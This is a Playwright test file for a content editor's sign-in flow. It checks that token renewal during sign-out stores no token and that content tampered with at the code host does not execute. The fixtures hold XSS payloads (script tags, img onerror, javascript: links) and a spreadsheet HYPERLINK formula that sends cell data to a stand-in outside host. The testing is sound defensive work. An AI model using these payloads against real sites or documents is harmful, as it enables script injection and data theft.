import { cpSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import type { Page, Request } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type HostServer, hostServer, TOKEN } from '../editing/hosts/server.ts';
import { CLIENT } from '../editing/hosts/sign-in.ts';
import { PLANS_ALONE } from '../shell.ts';
import type { BuiltSite } from '../site/demo-build.ts';
import { printedSite } from '../site/printed-site.ts';
import { chromiumHere } from './chromium.ts';
import { content, figureTyped, formTab, HAVULINNA, lineOpened, PATIENCE, press } from './form-tab.ts';

const DEMO = fileURLToPath(new URL('../../content', import.meta.url));
const browser = chromiumHere();
const folder = mkdtempSync(path.join(tmpdir(), 'rulla-signed-out-'));
let host: HostServer;
let site: BuiltSite;
beforeAll(async () => {
  host = await hostServer('gitlab', { [`content/${HAVULINNA}`]: content(HAVULINNA) });
  const company = content('company.yaml').replace(
    /^repository:\n(?: {2}.*\n)+/m,
    `repository:\n  host: gitlab\n  url: ${host.account.url}\n  signInAs: ${CLIENT}\n`,
  );
  cpSync(DEMO, path.join(folder, 'content'), { recursive: true });
  writeFileSync(path.join(folder, 'content/company.yaml'), company);
  site = await printedSite(path.join(folder, 'content'), {
    asOf: '2026-09-18',
    leftOut: `${PLANS_ALONE.RULLA_LEAVE_OUT},overviews,call-sheets,history`,
    pages: (address) => /^(?:my-edits|accounts\/havulinna-paper)\/$/.test(address),
  });
});
afterAll(async () => {
  await Promise.all([host?.close(), site?.end()]);
  rmSync(folder, { recursive: true, force: true });
});

/** A tab with an edit that waits, and all that is asked and said in it from its beginning. */
async function begun(): Promise<{ tab: Page; requests: Request[]; said: string[]; close: () => Promise<void> }> {
  const { context, tab } = await formTab(browser, `${site.address}accounts/havulinna-paper/`);
  const [requests, said]: [Request[], string[]] = [[], []];
  tab.on('request', (request) => requests.push(request));
  tab.on('console', (message) => said.push(message.text()));
  await figureTyped(tab);
  await press(tab.locator('.editor button[type=submit]'));
  await tab.waitForURL(/my-edits/);
  return { tab, requests, said, close: () => context.close() };
}

async function signedIn(tab: Page): Promise<void> {
  await press(tab.locator('[data-sign-in]'));
  await tab.locator('[data-sign-out]').first().waitFor(PATIENCE);
}

/** What the site's page keeps anywhere: in its storages, its cookies, its caches, and on the page itself. */
const kept = (tab: Page) =>
  tab.evaluate(async () => {
    const fields = [...document.querySelectorAll<HTMLInputElement>('input, textarea')].map(({ value }) => value);
    const databases = (await indexedDB.databases()).map(({ name }) => name);
    const cached = 'caches' in globalThis ? await caches.keys() : [];
    const written = document.documentElement.outerHTML;
    return JSON.stringify([localStorage, sessionStorage, document.cookie, databases, cached, fields, written, name]);
  });
const signedOut = async (tab: Page) => {
  await press(tab.locator('[data-sign-out]').first());
  await tab.locator('[data-sign-in]').waitFor(PATIENCE);
};

describe('a token', () => {
  test('that the host is making anew while somebody signs out does not sign them in again', async () => {
    const { tab, close } = await begun();
    await signedIn(tab);
    await tab.evaluate(() => {
      for (const [key, value] of Object.entries(sessionStorage))
        if (key.startsWith('renewal '))
          sessionStorage.setItem(key, JSON.stringify({ ...JSON.parse(String(value)), until: 0 }));
    });
    let answer = () => Promise.resolve();
    const isAsked = new Promise<void>((asked) => {
      void tab.route('**/oauth/token', (route) => {
        answer = () => route.continue();
        asked();
      });
    });
    await press(tab.locator('[data-send]').first());
    await isAsked;
    await signedOut(tab);
    const answered = tab.waitForResponse('**/oauth/token');
    await answer();
    await (await answered).finished();
    // Whatever came of the answer has come once the page has shown another frame.
    await tab.evaluate(() => new Promise((done) => requestAnimationFrame(() => setTimeout(done))));
    expect(await kept(tab)).not.toContain(TOKEN);
    await close();
  });
});

const RUNS = `'"><img src=x onerror="globalThis.ran=1"><script>globalThis.ran=1</script><a href="javascript:ran=1">a</a>'`;
/** What somebody may have written into a plan at the code host since the page was built, and no check has seen. */
const HOSTILE: Readonly<Record<string, (text: string) => string>> = {
  'markup that runs': (text) =>
    text.replace(/^name: .*$/m, `name: ${RUNS}`).replace('line: PM4 closed loop, pilot and phase 2', `line: ${RUNS}`),
  'formulas and addresses': (text) =>
    text
      .replace('line: PM4 closed loop, pilot and phase 2', `line: '=HYPERLINK("https://elsewhere.example/?"&A1;"x")'`)
      .replace('https://crm.example.com/accounts/ACC-00417', "'javascript:globalThis.ran=1'"),
};

describe('a plan that somebody has made hostile at the host', () => {
  test.each(Object.keys(HOSTILE))(
    'with %s is a text in the form, or is told: nothing runs, nothing is asked elsewhere',
    async (what) => {
      const branch = host.branches.get('main');
      const hostile = HOSTILE[what]?.(content(HAVULINNA)) ?? '';
      expect(hostile).not.toBe(content(HAVULINNA));
      const { tab, requests, said, close } = await begun();
      const dialogs: string[] = [];
      tab.on('dialog', (dialog) => {
        dialogs.push(dialog.message());
        void dialog.dismiss();
      });
      const faults: string[] = [];
      tab.on('pageerror', ({ message }) => faults.push(message));
      await signedIn(tab);
      branch?.files.set(`content/${HAVULINNA}`, hostile);
      try {
        await tab.goto(`${site.address}accounts/havulinna-paper/`);
        const { title } = await tab.evaluate(() => ({ title: document.title }));
        await lineOpened(tab);
        await tab.locator('.editor, .editor-page').first().waitFor(PATIENCE);
        // The page of one's own edits shows what became of the file, and its name.
        await tab.locator('.editor').first().innerText();
        const isTouched = () => [
          (globalThis as { ran?: unknown }).ran,
          ({} as { isPolluted?: unknown }).isPolluted,
          Object.keys(Object.prototype).length,
        ];
        expect(await tab.evaluate(isTouched)).toEqual([undefined, undefined, 0]);
        expect(await tab.title()).toBe(title);
        expect(await tab.locator('.editor :is(script, img, iframe, object, a[href^="javascript:" i])').count()).toBe(0);
        await tab.goto(`${site.address}my-edits/`);
        await tab.locator('[data-sign-out]').first().waitFor(PATIENCE);
        expect(await tab.evaluate(isTouched)).toEqual([undefined, undefined, 0]);
        expect(await tab.locator('main :is(script, img, iframe, object, a[href^="javascript:" i])').count()).toBe(0);
      } finally {
        branch?.files.set(`content/${HAVULINNA}`, content(HAVULINNA));
      }
      const origins = [new URL(site.address).origin, new URL(host.account.url).origin];
      expect(requests.filter((request) => !origins.includes(new URL(request.url()).origin))).toEqual([]);
      expect([dialogs, faults, said]).toEqual([[], [], []]);
      await close();
    },
  );
});
